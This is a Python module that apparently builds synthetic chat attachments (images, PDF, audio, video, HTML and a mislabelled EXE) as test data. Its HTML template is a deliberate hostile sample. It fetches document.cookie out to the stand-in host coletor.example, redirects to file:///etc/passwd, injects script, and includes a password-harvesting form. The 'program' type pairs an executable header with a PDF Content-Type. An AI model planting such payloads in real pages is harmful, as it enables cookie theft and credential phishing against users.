"""What clients send in conversations: images, audio, video, PDF and HTML.

The images and the PDF can be opened, the audio can be played. Videos are MP4
and 3GP by their boxes only. The HTML means harm, as a client's file may.
"""

import zlib
from hashlib import blake2b
from struct import pack

from . import audio, containers
from .planted import MESSAGES

# The kind: its extension, Content-Type and message_type.
KINDS = {
    "jpeg": ("jpg", "image/jpeg", "image"),
    "png": ("png", "image/png", "image"),
    "voice": ("ogg", "audio/ogg", "audio"),
    "mp3": ("mp3", "audio/mpeg", "audio"),
    "video": ("mp4", "video/mp4", "video"),
    "pdf": ("pdf", "application/pdf", "document"),
    "gif": ("gif", "image/gif", "image"),
    "webp": ("webp", "image/webp", "image"),
    "3gp": ("3gp", "video/3gpp", "video"),
    "program": ("exe", "application/pdf", "document"),
    "html": ("html", "text/html; charset=utf-8", "document"),
}
_HTML = """<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=file:///etc/passwd">
<title>boleto</title><base href="https://coletor.example/"></head>
<body onload="fetch('//coletor.example/?'+document.cookie)">
<script>parent.location='javascript:alert(document.domain)'</script>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<form action="https://coletor.example/"><input name="senha"></form>
<!-- %s --></body></html>
"""


class Attachment:
    """A file in a conversation; it stands where a Call stands for media."""

    __slots__ = ("org", "day", "index", "start", "draw", "key", "ident",
                 "protocol", "kind")
    route = MESSAGES

    def __init__(self, call, number, kind):
        self.org, self.day, self.index = call.org, call.day, call.index
        self.start, self.protocol = call.start, call.protocol
        self.kind = kind
        self.key = self.ident = "%s-%d" % (call.key, number)
        self.draw = blake2b(self.key.encode(), digest_size=64,
                            key=call.draw).digest()

    @property
    def path(self):
        return "/attachments/%s/%s.%s" % (
            self.day.replace("-", "/"), self.key, KINDS[self.kind][0])


def _jpeg(noise, size):
    """Eight by eight grey points: one block, its only codes one bit long."""
    def part(code, body):
        return bytes([0xff, code]) + pack(">H", len(body) + 2) + body
    comment = noise.take(max(1, min(size, 60000) - 160))
    table = bytes([1] + [0] * 15 + [0])
    return b"".join((
        b"\xff\xd8", part(0xe0, b"JFIF\0\1\1\0\0\1\0\1\0\0"),
        part(0xfe, comment), part(0xdb, b"\0" + b"\x01" * 64),
        part(0xc0, pack(">BHHBBBB", 8, 8, 8, 1, 1, 0x11, 0)),
        part(0xc4, b"\x00" + table), part(0xc4, b"\x10" + table),
        part(0xda, b"\1\1\0\0\x3f\0"), b"\x3f", b"\xff\xd9"))


def _png(noise, size):
    def chunk(name, body):
        return pack(">I", len(body)) + name + body + pack(
            ">I", zlib.crc32(name + body))
    rows = max(1, (size - 80) // 65)
    lines = b"".join(b"\0" + noise.take(64) for _ in range(rows))
    return (b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", pack(">IIBBBBB", 64, rows, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(lines, 0)) + chunk(b"IEND", b""))


def _pdf(noise, size):
    filler = noise.take(max(8, (size - 400) // 2)).hex().encode()
    objects = (b"<</Type/Catalog/Pages 2 0 R>>",
               b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>")
    body, table = b"%PDF-1.4\n%" + filler + b"\n", b""
    for number, text in enumerate(objects, 1):
        table += b"%010d 00000 n \n" % len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    return body + (b"xref\n0 4\n0000000000 65535 f \n" + table
                   + b"trailer\n<</Size 4/Root 1 0 R>>\n"
                   + b"startxref\n%d\n%%%%EOF\n" % len(body))


def _video(noise, size):
    return containers.video(b"isom", noise, size)


def _3gp(noise, size):
    return containers.video(b"3gp5", noise, size)


def _gif(noise, size):
    """One point in one of two colours, behind a comment."""
    comment = noise.take(max(1, size - 60))
    blocks = b"".join(bytes([len(comment[at:at + 255])]) + comment[at:at + 255]
                      for at in range(0, len(comment), 255))
    return (b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff"
            + b"\x21\xfe" + blocks + b"\0"
            + b"\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0;")


def _webp(noise, size):
    """One lossless point, and a chunk that readers pass over."""
    point = bytes.fromhex("2f00000010071011118888fe0700")
    filler = noise.take(max(2, size - 60) & ~1)
    chunks = (b"WEBPVP8L" + pack("<I", len(point)) + point
              + b"XTRA" + pack("<I", len(filler)) + filler)
    return b"RIFF" + pack("<I", len(chunks)) + chunks


def _program(noise, size):
    return b"MZ\x90\0" + noise.take(max(64, size))


def _html(noise, size):
    filler = noise.take(max(4, (size - len(_HTML)) // 2)).hex()
    return (_HTML % filler).encode()


_MAKERS = {"jpeg": _jpeg, "png": _png, "pdf": _pdf, "video": _video,
           "html": _html, "gif": _gif, "webp": _webp, "3gp": _3gp,
           "program": _program, "voice": audio.MAKERS["ogg-opus"],
           "mp3": audio.MAKERS["mp3"]}


def make(kind, seed, size):
    """The body of one attachment; `seed` is bytes."""
    return _MAKERS[kind](audio.Noise(seed), size)
